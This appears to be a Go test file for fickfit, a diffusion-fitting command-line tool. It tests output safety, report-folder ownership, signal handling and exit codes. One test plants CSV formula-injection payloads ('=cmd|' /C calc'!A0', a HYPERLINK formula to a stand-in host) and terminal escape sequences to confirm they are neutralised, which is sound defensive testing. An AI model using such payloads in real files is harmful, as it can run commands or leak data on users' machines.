//go:build linux || darwin

package main

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/xuri/excelize/v2"

	"github.com/fickfit/fickfit/internal/parallel"
	"github.com/fickfit/fickfit/report"
)

// The output promises of README.md ("an input is never overwritten", "an
// output is whole or absent", the report folder) tried as a careless or
// unlucky user would: every case asserts the exit status, the message and
// the files on disk (common practice, no source). Links, pipes and folders
// are made at test time in t.TempDir().

// TestMain lets a test run the real main (signals, exit statuses) in a
// child process: with FICKFIT_TEST_MAIN=1 the test binary is fickfit.
func TestMain(m *testing.M) {
	if os.Getenv("FICKFIT_TEST_MAIN") == "1" {
		main()
		return
	}
	if os.Getenv("FICKFIT_TEST_CRASH") == "1" {
		crashBySignal()
		go func() { panic("planted crash") }()
		select {}
	}
	os.Exit(m.Run())
}

// copyCoupons copies a few demo coupons into dir/coupons and returns the folder.
func copyCoupons(t *testing.T, dir string) string {
	t.Helper()
	c := filepath.Join(dir, "coupons")
	if err := os.MkdirAll(c, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"F7-2291-880-1.csv", "F7-2291-910-1.csv", "F7-2291-940-1.csv"} {
		b, err := os.ReadFile(filepath.Join(demoDir, "coupons", n))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(c, n), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

// snapshot records every file under dir (its content, or its kind for
// what is not a regular file), to compare before and after a run.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return nil
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return nil
		}
		switch {
		case fi.Mode()&fs.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			out[p] = "link→" + l
		case fi.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			out[p] = string(b)
		default:
			out[p] = fi.Mode().Type().String()
		}
		return nil
	})
	return out
}

func sameSnapshot(t *testing.T, before, after map[string]string) {
	t.Helper()
	for p, v := range before {
		if w, ok := after[p]; !ok {
			t.Errorf("%s disappeared", p)
		} else if w != v {
			t.Errorf("%s changed", p)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("%s appeared", p)
		}
	}
}

// TestOutputNeverAnInput: -o is refused when it is, by any path, a file
// the command reads; nothing on disk changes.
func TestOutputNeverAnInput(t *testing.T) {
	dir := t.TempDir()
	coupons := copyCoupons(t, dir)
	input := filepath.Join(coupons, "F7-2291-880-1.csv")
	mustDo(t, os.Symlink(input, filepath.Join(dir, "link.csv")))
	mustDo(t, os.Link(input, filepath.Join(dir, "hard.csv")))
	mustDo(t, os.Symlink(coupons, filepath.Join(dir, "linked-folder")))
	couple := filepath.Join(dir, "couple.csv")
	cb, err := os.ReadFile("../../testdata/golden/couple-NiCu.csv")
	mustDo(t, err)
	mustDo(t, os.WriteFile(couple, cb, 0o644))
	mustDo(t, os.Symlink(couple, filepath.Join(dir, "fig.svg")))
	excl := filepath.Join(dir, "exclusions.csv")
	mustDo(t, os.WriteFile(excl, []byte("file,profile,depth_um,line,reason\n"), 0o644))
	cal := filepath.Join(dir, "hv-to-c.csv")
	mustDo(t, os.WriteFile(cal, []byte("HV,C_wt%\n300,0.2\n500,0.5\n700,0.9\n"), 0o644))
	line := filepath.Join(dir, "line.json")
	code, _, stderr := runCLI(t, "arrhenius", coupons, "--format", "json", "-o", line)
	if code != 0 {
		t.Fatalf("arrhenius: exit %d: %s", code, stderr)
	}
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"a file found in an input folder", []string{"fit", coupons, "-o", input}},
		{"another spelling of the path", []string{"fit", coupons, "-o", filepath.Join(coupons, "..", "coupons", ".", "F7-2291-880-1.csv")}},
		{"a symbolic link to an input", []string{"fit", coupons, "-o", filepath.Join(dir, "link.csv")}},
		{"a hard link to an input", []string{"fit", coupons, "-o", filepath.Join(dir, "hard.csv")}},
		{"through a linked folder", []string{"fit", coupons, "-o", filepath.Join(dir, "linked-folder", "F7-2291-910-1.csv")}},
		{"the input given through a linked folder", []string{"fit", filepath.Join(dir, "linked-folder"), "-o", filepath.Join(coupons, "F7-2291-940-1.csv")}},
		{"a calibration read by a flag", []string{"predict", "--calibration", line, "--temperature", "925C", "--time", "4h", "--Cs", "1", "--C0", "0.2", "-o", line}},
		{"a calibration with its group", []string{"backcalc", input, "--calibration", line + ":", "--time", "4h", "-o", line}},
		{"a hardness calibration", []string{"fit", input, "--hardness-calibration", cal, "-o", cal}},
		{"an exclusions file", []string{"fit", coupons, "--exclude", excl, "-o", excl}},
		{"a figure through a link to an input", []string{"matano", couple, "--resamples", "-1", "--figure", filepath.Join(dir, "fig.svg")}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := snapshot(t, dir)
			code, stdout, stderr := runCLI(t, tc.args...)
			if code != exitBadInput || !strings.Contains(stderr, "would overwrite an input") {
				t.Errorf("exit %d, stderr %q; want %d and \"would overwrite an input\"", code, stderr, exitBadInput)
			}
			if stdout != "" && tc.args[0] != "matano" {
				t.Errorf("wrote to standard output: %q", stdout)
			}
			sameSnapshot(t, before, snapshot(t, dir))
		})
	}
}

// TestOutputNotARegularFile: -o never replaces a folder, a named pipe or a
// device; "-o -" is standard output; a link to another file keeps the
// link and replaces its target.
func TestOutputNotARegularFile(t *testing.T) {
	dir := t.TempDir()
	in := copyCoupons(t, dir)
	fifo := filepath.Join(dir, "pipe")
	mustDo(t, syscall.Mkfifo(fifo, 0o644))
	sub := filepath.Join(dir, "sub")
	mustDo(t, os.Mkdir(sub, 0o755))
	mustDo(t, os.Symlink(filepath.Join(dir, "missing"), filepath.Join(dir, "dangling")))
	cases := []struct{ path, frag string }{
		{filepath.Join(dir, "no-such-folder", "out.json"), "does not exist"},
		{fifo, "not a regular file (a named pipe)"},
		{sub, "not a regular file (a folder)"},
		{filepath.Join(dir, "dangling"), "symbolic link that leads nowhere"},
	}
	// A character device: /dev/null itself only when a mistake could not
	// replace it (not as root); as root, a node of the same device made in
	// the test's folder. The case must never be able to harm the machine.
	dev := "/dev/null"
	if os.Geteuid() == 0 {
		dev = filepath.Join(dir, "null")
		if err := syscall.Mknod(dev, syscall.S_IFCHR|0o666, 1<<8|3); err != nil {
			t.Logf("cannot make a device node as root (%v): the device case is left out", err)
			dev = ""
		}
	}
	if fi, err := os.Stat(dev); err == nil && fi.Mode()&fs.ModeCharDevice != 0 {
		cases = append(cases, struct{ path, frag string }{dev, "not a regular file (a character device)"})
	}
	for _, tc := range cases {
		before := snapshot(t, dir)
		code, stdout, stderr := runCLI(t, "fit", in, "--format", "json", "-o", tc.path)
		hint := strings.Contains(tc.frag, "pipe") || strings.Contains(tc.frag, "device")
		if code != exitBadInput || !strings.Contains(stderr, tc.frag) || hint && !strings.Contains(stderr, "-o -") {
			t.Errorf("-o %s: exit %d, stderr %q; want %d and %q", tc.path, code, stderr, exitBadInput, tc.frag)
		}
		if stdout != "" {
			t.Errorf("-o %s wrote to standard output", tc.path)
		}
		sameSnapshot(t, before, snapshot(t, dir))
	}
	// "-o -" writes to standard output and creates no file named "-".
	wd, _ := os.Getwd()
	mustDo(t, os.Chdir(dir))
	defer os.Chdir(wd)
	code, stdout, stderr := runCLI(t, "fit", in, "--format", "json", "-o", "-")
	if code != 0 || !strings.HasPrefix(stdout, "{\n  \"fickfit_version\"") {
		t.Errorf("-o -: exit %d, stderr %s, stdout %.40q", code, stderr, stdout)
	}
	if _, err := os.Lstat(filepath.Join(dir, "-")); err == nil {
		t.Error("-o - created a file named -")
	}
	// A link to a file that is not an input: the link stays, its target is replaced.
	target := filepath.Join(dir, "old.json")
	mustDo(t, os.WriteFile(target, []byte("old"), 0o644))
	mustDo(t, os.Symlink(target, filepath.Join(dir, "current.json")))
	if code, _, stderr := runCLI(t, "fit", in, "--format", "json", "-o", filepath.Join(dir, "current.json")); code != 0 {
		t.Fatalf("-o through a link: exit %d: %s", code, stderr)
	}
	if fi, err := os.Lstat(filepath.Join(dir, "current.json")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("the link was replaced by a file")
	}
	if b, _ := os.ReadFile(target); !bytes.HasPrefix(b, []byte("{")) {
		t.Errorf("the link's target was not written: %.20q", b)
	}
}

// campaignArgs is a small campaign: three coupons, fast intervals, no PNG.
func campaignArgs(coupons, out string, more ...string) []string {
	return append([]string{"campaign", coupons, "--out", out, "--ci", "wald", "--no-png", "--by", "none"}, more...)
}

// TestReportFolderOwnership: --force replaces exactly the files an earlier
// report wrote (stale ones removed) and never a user's; a file fickfit
// wrote and the user changed is the user's; a folder fickfit did not
// write is refused where the report needs its names.
func TestReportFolderOwnership(t *testing.T) {
	dir := t.TempDir()
	coupons := copyCoupons(t, dir)
	part := filepath.Join(dir, "part.csv")
	b, _ := os.ReadFile(filepath.Join(demoDir, "unknown", "pinion-7731.csv"))
	mustDo(t, os.WriteFile(part, b, 0o644))
	out := filepath.Join(dir, "R")
	if code, _, stderr := runCLI(t, campaignArgs(coupons, out, "--reference-lines", "C-in-gamma-Fe")...); code != 0 {
		t.Fatalf("first run: exit %d: %s", code, stderr)
	}
	for _, n := range []string{"results.json", "summary.txt", "figures/arrhenius.svg", report.ManifestName} {
		if _, err := os.Stat(filepath.Join(out, n)); err != nil {
			t.Fatalf("first run did not write %s", n)
		}
	}
	// A second run without --force is refused and changes nothing.
	before := snapshot(t, out)
	code, _, stderr := runCLI(t, campaignArgs(coupons, out)...)
	if code != exitBadInput || !strings.Contains(stderr, "holds an earlier fickfit report") || !strings.Contains(stderr, "--force") {
		t.Errorf("rerun without --force: exit %d, %s", code, stderr)
	}
	sameSnapshot(t, before, snapshot(t, out))
	// With --force and the part added: the user's files stay, the report is replaced.
	notes := filepath.Join(out, "notes.txt")
	mustDo(t, os.WriteFile(notes, []byte("lab notes"), 0o644))
	mine := filepath.Join(out, "figures", "my-sketch.svg")
	mustDo(t, os.WriteFile(mine, []byte("<svg/>"), 0o644))
	if code, _, stderr := runCLI(t, append(campaignArgs(coupons, out, "--force"), part)...); code != 0 {
		t.Fatalf("--force with a part: exit %d: %s", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(out, "backcalc.csv")); err != nil {
		t.Fatal("backcalc.csv not written for the part")
	}
	// Without the part again: its backcalc.csv and figure are stale and go.
	if code, _, stderr := runCLI(t, campaignArgs(coupons, out, "--force")...); code != 0 {
		t.Fatalf("--force without the part: exit %d: %s", code, stderr)
	}
	for _, n := range []string{"backcalc.csv", "figures/profile-pinion-7731.svg"} {
		if _, err := os.Stat(filepath.Join(out, n)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("stale %s of the earlier report left behind (%v)", n, err)
		}
	}
	if b, _ := os.ReadFile(notes); string(b) != "lab notes" {
		t.Error("the user's notes.txt was changed")
	}
	if b, _ := os.ReadFile(mine); string(b) != "<svg/>" {
		t.Error("the user's figures/my-sketch.svg was changed")
	}
	if entries, _ := filepath.Glob(filepath.Join(out, ".fickfit-tmp-*")); len(entries) > 0 {
		t.Errorf("temporary folders left: %v", entries)
	}
	// A report file the user changed is theirs now: refused even with --force.
	summary := filepath.Join(out, "summary.txt")
	f, _ := os.OpenFile(summary, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("checked by J. Doe\n")
	f.Close()
	before = snapshot(t, out)
	code, _, stderr = runCLI(t, campaignArgs(coupons, out, "--force")...)
	if code != exitBadInput || !strings.Contains(stderr, "summary.txt changed after fickfit wrote it") {
		t.Errorf("changed summary.txt: exit %d, %s", code, stderr)
	}
	sameSnapshot(t, before, snapshot(t, out))
	// A folder holding a user's results.json (no manifest lists it): refused
	// with --force, the file untouched.
	user := filepath.Join(dir, "U")
	mustDo(t, os.Mkdir(user, 0o755))
	mustDo(t, os.WriteFile(filepath.Join(user, "results.json"), []byte(`{"mine": true}`), 0o644))
	before = snapshot(t, user)
	code, _, stderr = runCLI(t, campaignArgs(coupons, user, "--force")...)
	if code != exitBadInput || !strings.Contains(stderr, "results.json was not written by fickfit") {
		t.Errorf("user's results.json: exit %d, %s", code, stderr)
	}
	sameSnapshot(t, before, snapshot(t, user))
	// The report folder may not be an input folder.
	before = snapshot(t, coupons)
	code, _, stderr = runCLI(t, campaignArgs(coupons, filepath.Join(dir, ".", "coupons"), "--force")...)
	if code != exitBadInput || !strings.Contains(stderr, "is the input folder") {
		t.Errorf("--out an input folder: exit %d, %s", code, stderr)
	}
	sameSnapshot(t, before, snapshot(t, coupons))
}

// TestReportFolderRefusals: an empty --out, a file as --out, a folder
// another run is writing, and a campaign that fails leave nothing behind.
func TestReportFolderRefusals(t *testing.T) {
	dir := t.TempDir()
	coupons := copyCoupons(t, dir)
	before := snapshot(t, dir)
	wd, _ := os.Getwd()
	mustDo(t, os.Chdir(dir))
	code, _, stderr := runCLI(t, campaignArgs(coupons, "")...)
	os.Chdir(wd)
	if code != exitBadInput || !strings.Contains(stderr, "--out: name the report folder") {
		t.Errorf(`--out "": exit %d, %s`, code, stderr)
	}
	sameSnapshot(t, before, snapshot(t, dir))

	file := filepath.Join(coupons, "F7-2291-880-1.csv")
	code, _, stderr = runCLI(t, campaignArgs(coupons, file, "--force")...)
	if code != exitBadInput || !strings.Contains(stderr, "name a folder") {
		t.Errorf("--out a file: exit %d, %s", code, stderr)
	}
	sameSnapshot(t, before, snapshot(t, dir))

	// A campaign that fails (a bad input) into a new folder leaves no folder.
	bad := filepath.Join(dir, "bad.csv")
	mustDo(t, os.WriteFile(bad, []byte("depth_mm,C_wt%\n0.1,abc\n"), 0o644))
	out := filepath.Join(dir, "new", "R")
	code, _, stderr = runCLI(t, append(campaignArgs(coupons, out), bad)...)
	if code != exitBadInput || !strings.Contains(stderr, "bad.csv") {
		t.Errorf("bad input: exit %d, %s", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "new")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a failed campaign left its folder behind (%v)", err)
	}

	// A second run into a folder being written fails at once.
	busy := filepath.Join(dir, "busy")
	held, err := report.OpenReportFolder(busy, report.FolderOptions{Command: "campaign"})
	if err != nil {
		t.Fatal(err)
	}
	code, _, stderr = runCLI(t, campaignArgs(coupons, busy, "--force")...)
	held.Close()
	if code != exitBadInput || !strings.Contains(stderr, "another fickfit run is writing") {
		t.Errorf("busy folder: exit %d, %s", code, stderr)
	}
	if _, err := os.Stat(busy); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the busy folder was not removed by the run that created it (%v)", err)
	}
}

// TestDemoNeverOverwritesAUserFile: the demo replaces its own earlier
// report, judged by the manifest, never a file of the user's with a
// report's name, with or without --force.
func TestDemoNeverOverwritesAUserFile(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	mustDo(t, os.Mkdir(dir, 0o755))
	user := filepath.Join(dir, "results.json")
	mustDo(t, os.WriteFile(user, []byte(`{"mine": true}`), 0o644))
	for _, force := range []bool{false, true} {
		args := []string{"demo", "--out", dir, "--no-png", "--ci", "wald"}
		if force {
			args = append(args, "--force")
		}
		code, _, stderr := runCLI(t, args...)
		if code != exitBadInput || !strings.Contains(stderr, "results.json") {
			t.Errorf("demo (force %v) over a user's results.json: exit %d, %s", force, code, stderr)
		}
		if b, _ := os.ReadFile(user); string(b) != `{"mine": true}` {
			t.Fatal("the user's results.json was changed")
		}
		if entries, _ := os.ReadDir(dir); len(entries) != 1 {
			t.Errorf("files written into a refused folder: %v", entries)
		}
	}
}

// TestInterruptLeavesNothing runs fickfit as a child process whose input
// is a named pipe nobody writes, so that it waits inside the campaign with
// its report folder created and locked; SIGINT and SIGTERM must remove
// the folder it created (or leave an earlier report as it was) and exit
// 130 and 143.
func TestInterruptLeavesNothing(t *testing.T) {
	if testing.Short() {
		t.Skip("starts child processes")
	}
	dir := t.TempDir()
	fifo := filepath.Join(dir, "waiting.csv")
	mustDo(t, syscall.Mkfifo(fifo, 0o644))
	coupons := copyCoupons(t, dir)
	earlier := filepath.Join(dir, "earlier")
	if code, _, stderr := runCLI(t, campaignArgs(coupons, earlier)...); code != 0 {
		t.Fatalf("earlier report: exit %d: %s", code, stderr)
	}
	for _, tc := range []struct {
		sig  syscall.Signal
		out  string
		want int
	}{
		{syscall.SIGINT, filepath.Join(dir, "R"), 130},
		{syscall.SIGTERM, earlier, 143},
	} {
		before := snapshot(t, tc.out)
		cmd := exec.Command(os.Args[0], campaignArgs(fifo, tc.out, "--force")[0:]...)
		cmd.Env = append(os.Environ(), "FICKFIT_TEST_MAIN=1")
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		mustDo(t, cmd.Start())
		// Wait until the child reads the pipe: a non-blocking open of its
		// write end succeeds only then, and by then the child has locked
		// the report folder (which it does before reading anything). The
		// write end stays open and silent, so the child keeps waiting.
		var w *os.File
		for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(20 * time.Millisecond) {
			var err error
			if w, err = os.OpenFile(fifo, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
				break
			}
			if time.Now().After(deadline) {
				cmd.Process.Kill()
				t.Fatalf("the child never read its input: %s", stderr.String())
			}
		}
		mustDo(t, cmd.Process.Signal(tc.sig))
		err := cmd.Wait()
		w.Close()
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.ExitCode() != tc.want {
			t.Errorf("%v: %v, want exit %d; stderr %s", tc.sig, err, tc.want, stderr.String())
		}
		if !strings.Contains(stderr.String(), "stopped by") {
			t.Errorf("%v: message %q", tc.sig, stderr.String())
		}
		sameSnapshot(t, before, snapshot(t, tc.out))
		if tc.out != earlier {
			if _, err := os.Stat(tc.out); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("%v: the folder the run created is still there (%v)", tc.sig, err)
			}
		}
	}
}

func mustDo(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestWorkLimits: counts beyond the stated limits are usage errors (exit
// 2) before any work, naming the flag and the limit; the limits themselves
// are accepted by the flag check (common practice, no source).
func TestWorkLimits(t *testing.T) {
	good := "../../testdata/profile/A3.csv"
	for _, tc := range []struct {
		args []string
		frag string
	}{
		{[]string{"fit", good, "--ci", "bootstrap", "--resamples", "1000000000"}, "--resamples 1000000000 is more than the limit of 100000"},
		{[]string{"campaign", good, "--out", filepath.Join(t.TempDir(), "R"), "--ci", "bootstrap", "--resamples", "100001"}, "limit of 100000"},
		{[]string{"matano", "../../testdata/golden/couple-NiCu.csv", "--resamples", "200000"}, "--resamples 200000 is more than the limit of 100000"},
		{[]string{"backcalc", good, "--reference", "C-in-gamma-Fe", "--time", "4h", "--method", "monte-carlo", "--draws", "100000000"}, "--draws 100000000 is more than the limit of 1000000"},
		{[]string{"predict", "--reference", "C-in-gamma-Fe", "--temperature", "925C", "--time", "4h", "--Cs", "1", "--C0", "0.2", "--points", "1000000"}, "--points 1000000 is more than the limit of 10000"},
	} {
		code, stdout, stderr := runCLI(t, tc.args...)
		if code != exitBadInput || !strings.Contains(stderr, tc.frag) || stdout != "" {
			t.Errorf("%v: exit %d, stderr %q; want %d and %q", tc.args[:2], code, stderr, exitBadInput, tc.frag)
		}
	}
	if err := atMost("--draws", maxDraws, maxDraws); err != nil {
		t.Errorf("the limit itself is refused: %v", err)
	}
}

// TestInternalErrorIsNotBadInput: a panic in a command, or in one of its
// workers, exits 3 with a message saying it is fickfit's fault, never 2
// (common practice, no source; docs/output.md, "Exit status").
func TestInternalErrorIsNotBadInput(t *testing.T) {
	commands = append(commands, func() *cobra.Command {
		return &cobra.Command{Use: "test-panic", RunE: func(*cobra.Command, []string) error {
			parallel.For(4, func(i int) {
				if i == 2 {
					panic("a bug planted by the test")
				}
			}, nil)
			return nil
		}}
	})
	defer func() { commands = commands[:len(commands)-1] }()
	code, _, stderr := runCLI(t, "test-panic")
	if code != exitInternal || !strings.Contains(stderr, "internal error (a fault of fickfit, not of your input)") ||
		!strings.Contains(stderr, "a bug planted by the test") {
		t.Errorf("exit %d, stderr %q", code, stderr)
	}
}

// TestRuntimeCrashIsNotExit2: a fatal error of the Go runtime (here an
// unrecovered panic in a goroutine of its own) ends the process with
// SIGABRT, not with the runtime's usual status 2, which means bad input.
func TestRuntimeCrashIsNotExit2(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a child process")
	}
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), "FICKFIT_TEST_CRASH=1")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if !errors.As(err, &ee) {
		t.Fatalf("the child did not fail: %v", err)
	}
	ws, ok := ee.Sys().(syscall.WaitStatus)
	if ee.ExitCode() == exitBadInput || !ok || !ws.Signaled() || ws.Signal() != syscall.SIGABRT {
		t.Errorf("crash ended with %v (exit %d), want SIGABRT; stderr %.200q", err, ee.ExitCode(), stderr.String())
	}
	if !strings.Contains(stderr.String(), "planted crash") {
		t.Errorf("the crash's message is missing: %.200q", stderr.String())
	}
}

// injectedCoupons writes three demo coupons whose ids and lots carry what
// a spreadsheet or a terminal would act on, and ids that sanitise alike.
func injectedCoupons(t *testing.T, dir string) (string, []string) {
	t.Helper()
	c := filepath.Join(dir, "coupons")
	mustDo(t, os.MkdirAll(c, 0o755))
	ids := []string{`=HYPERLINK("http://example.invalid/?"&A1,"open")`, "A 1", "A_1", "A/1", "@SUM(1+1)*cmd|' /C calc'!A0", "\x1b]0;pwned\x07\x1b[2J-x"}
	src := []string{"F7-2291-880-1.csv", "F7-2291-910-1.csv", "F7-2291-940-1.csv", "F7-2291-970-1.csv", "F7-2291-880-2.csv", "F7-2291-910-2.csv"}
	for i, id := range ids {
		b, err := os.ReadFile(filepath.Join(demoDir, "coupons", src[i]))
		mustDo(t, err)
		lines := strings.SplitN(string(b), "\n", 4)
		lines[0] = "# id: " + id
		lines[2] = "# lot: =cmd|' /C calc'!A0"
		mustDo(t, os.WriteFile(filepath.Join(c, fmt.Sprintf("c%d.csv", i)), []byte(strings.Join(lines, "\n")), 0o644))
	}
	return c, ids
}

// TestNoInjection: text from the inputs cannot run as a formula in the
// CSV files nor act on a terminal, and HTML anchors stay unique (common
// practice, no source; OWASP "CSV Injection").
func TestNoInjection(t *testing.T) {
	dir := t.TempDir()
	coupons, ids := injectedCoupons(t, dir)
	code, out, stderr := runCLI(t, "fit", coupons, "--ci", "wald", "--format", "csv")
	if code != 0 {
		t.Fatalf("fit csv: exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	mustDo(t, err)
	negative := false
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell == "" {
				continue
			}
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				negative = negative || cell[0] == '-'
				continue
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q would run as a formula", rows[0][i], cell)
			}
		}
		if row[1] != "'=cmd|' /C calc'!A0" {
			t.Errorf("lot cell %q, want it with a leading apostrophe", row[1])
		}
	}
	if !strings.Contains(out, `"'=HYPERLINK(""http://example.invalid/?""&A1,""open"")"`) {
		t.Errorf("the id is not kept as text with an apostrophe:\n%s", out)
	}
	if !negative {
		t.Error("no negative number in the CSV: the case no longer checks that negative numbers stay numbers")
	}
	code, text, stderr := runCLI(t, "fit", coupons, "--ci", "wald")
	if code != 0 {
		t.Fatalf("fit text: exit %d: %s", code, stderr)
	}
	if strings.ContainsAny(text, "\x1b\x07\r") || !strings.Contains(text, `\x1b]0;pwned\x07\x1b[2J-x`) {
		t.Errorf("control characters reach the terminal raw, or the id is not shown escaped")
	}
	// The campaign: results.csv and residuals.csv neutralised, summary.txt
	// escaped, one anchor per profile and each link to its own profile.
	out = filepath.Join(dir, "R")
	code, summary, stderr := runCLI(t, campaignArgs(coupons, out)...)
	if code != 0 {
		t.Fatalf("campaign: exit %d: %s", code, stderr)
	}
	if strings.ContainsAny(summary, "\x1b\x07") {
		t.Error("the campaign's terminal summary holds raw control characters")
	}
	svgs, _ := filepath.Glob(filepath.Join(out, "figures", "*.svg"))
	for _, f := range svgs {
		b, _ := os.ReadFile(f)
		dec := xml.NewDecoder(bytes.NewReader(b))
		for {
			if _, err := dec.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Errorf("%s is not well-formed XML: %v", filepath.Base(f), err)
				break
			}
		}
	}
	for _, f := range []string{"results.csv", "residuals.csv", "summary.txt", "report.html"} {
		b, _ := os.ReadFile(filepath.Join(out, f))
		if bytes.ContainsAny(b, "\x1b\x07") {
			t.Errorf("%s holds raw control characters", f)
		}
		if strings.HasSuffix(f, ".csv") && (bytes.Contains(b, []byte("\n=")) || bytes.Contains(b, []byte(",="))) {
			t.Errorf("%s has a cell starting with =", f)
		}
	}
	// The workbook holds the ids as text cells and not one formula.
	book, err := excelize.OpenFile(filepath.Join(out, "results.xlsx"))
	mustDo(t, err)
	defer book.Close()
	found := map[string]bool{}
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		mustDo(t, err)
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := book.GetCellFormula(sheet, ref); f != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, ref, f)
				}
				found[v] = true
			}
		}
	}
	for _, id := range ids[:5] {
		if !found[id] {
			t.Errorf("the workbook does not hold the id %q as text", id)
		}
	}
	html, _ := os.ReadFile(filepath.Join(out, "report.html"))
	anchors := regexp.MustCompile(`<article class="profile" id="([^"]+)">\s*<h3>([^<]*)`).FindAllSubmatch(html, -1)
	if len(anchors) != len(ids) {
		t.Fatalf("%d profile articles, want %d", len(anchors), len(ids))
	}
	seen := map[string]string{}
	for _, a := range anchors {
		id, heading := string(a[1]), string(a[2])
		if other, dup := seen[id]; dup {
			t.Errorf("anchor %q used by %q and %q", id, other, heading)
		}
		seen[id] = heading
		// The summary's link to this anchor names the same profile.
		link := regexp.MustCompile(`<a href="#` + regexp.QuoteMeta(id) + `">([^<]*)</a>`).FindSubmatch(html)
		if link == nil || !strings.Contains(heading, string(link[1])) {
			t.Errorf("the link to #%s does not name the profile of that anchor (%q)", id, heading)
		}
	}
}

// TestMissingConditions: a profile without hold time or temperature gives
// null in JSON and an empty cell in CSV, never 0, and the JSON reads back
// (common practice, no source; docs/output.md, "Undetermined numbers").
func TestMissingConditions(t *testing.T) {
	dir := t.TempDir()
	b, err := os.ReadFile(filepath.Join(demoDir, "coupons", "F7-2291-880-1.csv"))
	mustDo(t, err)
	var keep []string
	for _, l := range strings.Split(string(b), "\n") {
		if !strings.HasPrefix(l, "# time:") && !strings.HasPrefix(l, "# temperature:") {
			keep = append(keep, l)
		}
	}
	in := filepath.Join(dir, "bare.csv")
	mustDo(t, os.WriteFile(in, []byte(strings.Join(keep, "\n")), 0o644))
	out := filepath.Join(dir, "fits.json")
	if code, _, stderr := runCLI(t, "fit", in, "--ci", "wald", "--format", "json", "-o", out); code != 0 {
		t.Fatalf("fit: exit %d: %s", code, stderr)
	}
	js, _ := os.ReadFile(out)
	if !bytes.Contains(js, []byte(`"time_s": null,`)) || !bytes.Contains(js, []byte(`"temperature_K": null,`)) {
		t.Errorf("missing time and temperature are not null:\n%.600s", js)
	}
	_, csvOut, _ := runCLI(t, "fit", in, "--ci", "wald", "--format", "csv")
	rows, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	mustDo(t, err)
	if rows[0][2] != "temperature_K" || rows[0][3] != "time_s" || rows[1][2] != "" || rows[1][3] != "" {
		t.Errorf("CSV: %v / %v", rows[0][:4], rows[1][:4])
	}
	// The JSON with nulls is read back by the next command.
	code, text, stderr := runCLI(t, "backcalc", out, "--solve", "temperature", "--time", "5h", "--reference", "C-in-gamma-Fe")
	if code != 0 || !strings.Contains(text, "°C") {
		t.Errorf("backcalc on the JSON: exit %d: %s", code, stderr)
	}
	// An extreme answer in text: a hold time at room temperature is a
	// number with a power of ten, not hundreds of digits or NaN.
	code, text, stderr = runCLI(t, "backcalc", in, "--solve", "time", "--temperature", "300K", "--reference", "C-in-gamma-Fe")
	if code != 0 || !regexp.MustCompile(`hold time +[0-9.]+ × 10[⁰¹²³⁴⁵⁶⁷⁸⁹]+ h`).MatchString(text) ||
		regexp.MustCompile(`[0-9]{12}`).MatchString(text) || strings.Contains(text, "NaN") {
		t.Errorf("hold time at 300 K: exit %d, %s\n%s", code, stderr, text)
	}
}

// TestDigits: --digits sets the significant digits of the numbers text
// writes without an interval, in every command that writes text; numbers
// with an interval keep the digits their interval supports; the default
// output is pinned by the golden files (common practice, no source).
func TestDigits(t *testing.T) {
	coupon := demoDir + "/coupons/F7-2291-880-1.csv"
	for _, tc := range []struct {
		args       []string
		def, wider string
	}{
		{[]string{"fit", coupon, "--fix", "C0=0.2", "--ci", "wald"}, "C0  0.200 wt%", "C0  0.200000 wt%"},
		// A reference row taken as exact (no spread): its numbers carry no interval.
		{[]string{"predict", "--reference", "C-in-gamma-Fe", "--reference-spread", "1", "--reference-Q-uncertainty", "0%", "--temperature", "925C", "--Cs", "1.0", "--C0", "0.2",
			"--case-threshold", "0.35wt%", "--target-depth", "0.9mm"}, "hold time      7.97 h", "hold time      7.97407 h"},
		{[]string{"backcalc", demoDir + "/unknown/pinion-7731.csv", "--solve", "time", "--temperature", "925C", "--reference", "C-in-gamma-Fe",
			"--reference-spread", "1", "--reference-Q-uncertainty", "0%"}, "(1.53 eV)", "(1.53391 eV)"},
